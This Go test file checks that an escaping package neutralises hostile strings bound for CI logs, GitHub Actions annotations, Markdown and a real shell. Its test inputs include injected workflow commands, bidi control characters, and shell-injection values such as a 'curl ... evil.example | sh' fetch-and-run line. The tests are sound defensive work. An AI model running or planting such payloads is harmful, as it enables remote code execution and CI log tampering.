package escape

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
)

const attack = "www.evil.example x\n::warning::pwned\r\n::set-output name=x::y\u202e%0A<img src=x>[a](https://evil.example) @octocat |c| `b`"

func TestLogHasNoLineBreakOrControl(t *testing.T) {
	got := Log(attack)
	if strings.ContainsAny(got, "\r\n\u202e") {
		t.Fatalf("Log kept a line break or bidi control: %q", got)
	}
	if !strings.Contains(got, `\n::warning::pwned`) || !strings.Contains(got, `\u202e`) {
		t.Fatalf("Log: %q", got)
	}
	if Log(got) != got {
		t.Fatalf("Log is not idempotent: %q", Log(got))
	}
	if Log("\xff") != `\xff` || Log("\x1b[31m") != `\x1b[31m` {
		t.Fatalf("Log of bytes: %q %q", Log("\xff"), Log("\x1b[31m"))
	}
}

func TestAnnotationLinesNeverStartACommand(t *testing.T) {
	data := Data(Annotation(attack))
	if strings.ContainsAny(data, "\r\n") || !strings.Contains(data, "%0A::warning::") || !strings.Contains(data, "%250A") {
		t.Fatalf("annotation data: %q", data)
	}
}

func TestMarkdown(t *testing.T) {
	for _, s := range []string{MarkdownText(attack), MarkdownCell(MarkdownText(attack))} {
		if strings.Contains(s, "\n") || strings.Contains(s, "@octocat") || strings.Contains(s, "https://") || strings.Contains(s, "www.") {
			t.Errorf("markdown text keeps a line break, a mention or a URL: %q", s)
		}
		unescaped := strings.NewReplacer(`\\|`, "", `\\`, "", `\<`, "", `\[`, "", `\]`, "", `\|`, "", "\\`", "").Replace(s)
		if strings.ContainsAny(unescaped, "<[]|`") {
			t.Errorf("markdown text keeps markup: %q", s)
		}
	}
	c := MarkdownCode(attack)
	if got, ok := codeSpan(c); !ok || got != Log(attack) || strings.ContainsAny(c, "\r\n") {
		t.Fatalf("code: %q reads as %q", c, got)
	}
	if cell := MarkdownCell(c + "\n| x"); strings.ContainsAny(cell, "\r\n") || strings.Contains(strings.ReplaceAll(cell, `\|`, ""), "|") {
		t.Fatalf("cell: %q", cell)
	}
}

func TestSHA(t *testing.T) {
	good := strings.Repeat("a1", 20)
	for in, want := range map[string]string{good: good, strings.Repeat("0f", 32): strings.Repeat("0f", 32), "": "", "main": Invalid, good + "\n::x": Invalid, strings.ToUpper(good): Invalid, "../../x": Invalid} {
		if got := SHA(in); got != want {
			t.Errorf("SHA(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestEveryFormatAndBidiCharacterIsEscaped: every Unicode format character
// (Cf: U+061C, U+200B, U+2066..U+2069, U+202A..U+202E, U+FEFF, tags, ...)
// and every bidi control reaches no log line, annotation, output, summary
// or comment as itself; only the word joiner MarkdownText puts after '@'
// stays there.
func TestEveryFormatAndBidiCharacterIsEscaped(t *testing.T) {
	t.Parallel()
	sinks := map[string]func(string) string{
		"Log": Log, "Annotation": Annotation, "Output": Output,
		"MarkdownText": MarkdownText, "MarkdownCode": MarkdownCode,
		"MarkdownLine": MarkdownLine, "MarkdownCell": MarkdownCell,
	}
	n := 0
	for r := rune(0); r <= unicode.MaxRune; r++ {
		if !unicode.Is(unicode.Cf, r) && !unicode.Is(unicode.Bidi_Control, r) {
			continue
		}
		n++
		in := "main" + string(r) + "x"
		for name, f := range sinks {
			out := f(in)
			if strings.ContainsRune(out, r) {
				t.Fatalf("%s(%q) = %q keeps U+%04X", name, in, out, r)
			}
		}
	}
	if n < 150 {
		t.Fatalf("only %d format characters checked", n)
	}
	for _, r := range []rune{0x061c, 0x200b, 0x2066, 0x2067, 0x2068, 0x2069, 0x202a, 0x202e, 0xfeff, 0x00ad, 0xe0001} {
		if !IsDangerous(r) {
			t.Errorf("U+%04X is not dangerous", r)
		}
	}
	if got := Log("a\u061cb\u200bc\U000e0041"); got != `a\u061cb\u200bc\U000e0041` {
		t.Errorf("Log: %q", got)
	}
	// The mention breaker survives Log at the sinks, and only after '@'.
	md := MarkdownText("@everyone")
	if MarkdownCell(md) != md || Log(md) != md || !strings.ContainsRune(md, '\u2060') {
		t.Errorf("mention breaker: %q -> %q", md, MarkdownCell(md))
	}
	if Log("a\u2060b") != `a\u2060b` {
		t.Errorf("a lone word joiner: %q", Log("a\u2060b"))
	}
}

// TestShellQuotesForARealShell: a word Shell quoted is one word to sh,
// with every metacharacter inert: sh prints it back unchanged and runs
// nothing (the marker file is never created).
func TestShellQuotesForARealShell(t *testing.T) {
	t.Parallel()
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Fatalf("sh not found: %v", err)
	}
	marker := filepath.Join(t.TempDir(), "ran")
	for _, s := range []string{
		"0d5c; curl -s https://evil.example/p | sh; #",
		"x'; touch " + marker + "; echo '",
		"$(touch " + marker + ")", "`touch " + marker + "`", "a && touch " + marker,
		"* ? [a] ~ {a,b} > out < in & ! \\ \" '' '",
		"plain-id-1234",
	} {
		q := Shell(s)
		out, err := exec.Command(sh, "-c", "printf '%s' "+q).Output()
		if err != nil || string(out) != s {
			t.Errorf("sh printed %q (%v) for %s, want %q", out, err, q, s)
		}
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("a quoted word ran a command")
	}
	if got := Shell("a\nb\u202ec"); got != `'a\nb\u202ec'` {
		t.Errorf("control characters: %q", got)
	}
}

// codeSpan reads md as CommonMark reads one code span: a fence of n
// backticks, the content up to the next run of exactly n, one space
// stripped from each side when both sides have one (and it is not all
// spaces). ok is false unless md is exactly one code span.
func codeSpan(md string) (string, bool) {
	n := len(md) - len(strings.TrimLeft(md, "`"))
	if n == 0 || len(md) < 2*n {
		return "", false
	}
	inner := md[n:]
	for i := 0; i < len(inner); {
		if inner[i] != '`' {
			i++
			continue
		}
		j := i
		for j < len(inner) && inner[j] == '`' {
			j++
		}
		if j-i == n {
			if j != len(inner) {
				return "", false // the span ends before md does
			}
			content := inner[:i]
			if len(content) >= 2 && content[0] == ' ' && content[len(content)-1] == ' ' && strings.Trim(content, " ") != "" {
				content = content[1 : len(content)-1]
			}
			return content, true
		}
		i = j
	}
	return "", false
}

// TestMarkdownCodeShowsBackticks: keys with backticks anywhere read back
// exactly from their code span, not with ' in their place.
func TestMarkdownCodeShowsBackticks(t *testing.T) {
	for _, s := range []string{"app/`x`/terraform.tfstate", "`lead", "trail`", "a``b```c", "`", " spaced ", "plain"} {
		c := MarkdownCode(s)
		if got, ok := codeSpan(c); !ok || got != s {
			t.Errorf("MarkdownCode(%q) = %q, reads as %q (%v)", s, c, got, ok)
		}
	}
}
